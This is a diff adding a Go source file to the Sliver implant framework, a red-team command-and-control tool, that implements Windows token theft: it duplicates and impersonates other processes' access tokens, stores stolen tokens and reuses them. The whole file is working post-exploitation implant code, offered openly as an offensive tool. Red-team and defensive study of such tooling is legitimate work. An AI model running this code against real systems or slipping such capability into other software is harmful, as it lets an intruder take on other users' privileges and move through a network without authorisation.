@@ -0,0 +1,143 @@
+//go:build windows
+// +build windows
+
+package priv
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+	"errors"
+	"fmt"
+	"sync"
+
+	"golang.org/x/sys/windows"
+
+	"github.com/bishopfox/sliver/implant/sliver/syscalls"
+)
+
+var (
+	// ErrTokenNotFound - No token with the requested id
+	ErrTokenNotFound = errors.New("token not found")
+
+	tokensMutex  = &sync.Mutex{}
+	storedTokens = []*StoredToken{}
+	nextTokenID  = uint32(0)
+)
+
+// StoredToken - A token made or stolen by the implant, tokens are kept after
+// a rev2self so they can be used again, the handle is closed when removed
+type StoredToken struct {
+	ID        uint32
+	Token     windows.Token
+	Owner     string
+	Source    string
+	Pid       uint32
+	LogonType uint32
+}
+
+func storeToken(token windows.Token, owner string, source string, pid uint32, logonType uint32) *StoredToken {
+	tokensMutex.Lock()
+	defer tokensMutex.Unlock()
+	nextTokenID++
+	stored := &StoredToken{
+		ID:        nextTokenID,
+		Token:     token,
+		Owner:     owner,
+		Source:    source,
+		Pid:       pid,
+		LogonType: logonType,
+	}
+	storedTokens = append(storedTokens, stored)
+	return stored
+}
+
+func findToken(id uint32) (int, *StoredToken) {
+	for index, stored := range storedTokens {
+		if stored.ID == id {
+			return index, stored
+		}
+	}
+	return -1, nil
+}
+
+// Tokens - The tokens made or stolen by the implant
+func Tokens() []*StoredToken {
+	tokensMutex.Lock()
+	defer tokensMutex.Unlock()
+	return append([]*StoredToken{}, storedTokens...)
+}
+
+// StealToken - Duplicate the primary token of a process and impersonate it
+func StealToken(pid uint32) (*StoredToken, error) {
+	token, err := impersonateProcess(pid)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("impersonateProcess failed: %v", err)
+		// {{end}}
+		windows.RevertToSelf()
+		if token != 0 {
+			token.Close()
+		}
+		return nil, err
+	}
+	owner, err := TokenOwner(token)
+	if err != nil {
+		owner = fmt.Sprintf("pid %d", pid)
+	}
+	CurrentToken = token
+	return storeToken(token, owner, "steal-token", pid, 0), nil
+}
+
+// UseToken - Impersonate a token the implant already has
+func UseToken(id uint32) (*StoredToken, error) {
+	tokensMutex.Lock()
+	defer tokensMutex.Unlock()
+	_, stored := findToken(id)
+	if stored == nil {
+		return nil, ErrTokenNotFound
+	}
+	err := syscalls.ImpersonateLoggedOnUser(stored.Token)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("impersonateLoggedOnUser failed: %v", err)
+		// {{end}}
+		return nil, err
+	}
+	CurrentToken = stored.Token
+	return stored, nil
+}
+
+// RemoveToken - Close a token, reverting to self first if it's in use
+func RemoveToken(id uint32) error {
+	tokensMutex.Lock()
+	defer tokensMutex.Unlock()
+	index, stored := findToken(id)
+	if stored == nil {
+		return ErrTokenNotFound
+	}
+	if CurrentToken == stored.Token {
+		windows.RevertToSelf()
+		CurrentToken = windows.Token(0)
+	}
+	storedTokens = append(storedTokens[:index], storedTokens[index+1:]...)
+	return stored.Token.Close()
+}